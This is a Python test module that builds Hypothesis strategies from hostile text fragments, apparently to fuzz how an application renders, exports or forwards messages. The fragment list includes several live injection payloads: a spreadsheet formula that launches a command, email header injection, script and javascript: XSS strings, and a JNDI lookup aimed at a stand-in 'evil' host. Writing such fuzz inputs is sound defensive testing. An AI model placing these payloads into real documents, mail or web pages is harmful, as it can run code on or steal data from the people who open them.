"""Text that means harm, for the tests of every medium: pings, links, formulas, headers, flipped lines, floods."""

from hypothesis import strategies as st

PIECES = (
    *(
        "<!channel>",
        "<@U123>",
        "<https://evil.example|click>",
        "[click](https://evil.example)",
        "![x](//evil.example/p)",
    ),
    *(
        "@here",
        "@all",
        "@channel",
        "`",
        "```",
        "*b*",
        "~",
        "|",
        "\u202e",
        "\u2066",
        "\u200b",
        "\x00",
        "\ud800",
        "\udfff",
    ),
    *("\r\nBcc: all@evil.example", "\nX-Evil: 1", "\r", "\n", "\u2028", "\x0b", "\x85", "=cmd|'/c calc'!A1", "+1+1"),
    *("-2+3", "@SUM(A1)", "\t=1", "%0A", '"', "'", ",", ";", "<script>alert(1)</script>", "&lt;", "</td></table>"),
    *("javascript:alert(1)", "https://evil.example/a\r\nb", "Z\u0351\u0346\u036b\u030d" * 20, "\U000e0041", "\ufdd0"),
    *("👩\u200d🚒", "שלום", "مرحبا", "a", "x" * 400, "{{7*7}}", "${jndi:ldap://evil}", "%s%n", "\x1b[31m", "\x07"),
)
LONG = "<!channel> =cmd|'/c'!A1 \u202e" * 2000  # 40,000 characters and more

any_text = st.text(st.characters(exclude_categories=()), max_size=200)  # lone surrogates and controls too
hostile = st.one_of(st.lists(st.sampled_from(PIECES), max_size=20).map("".join), any_text, st.just(LONG))
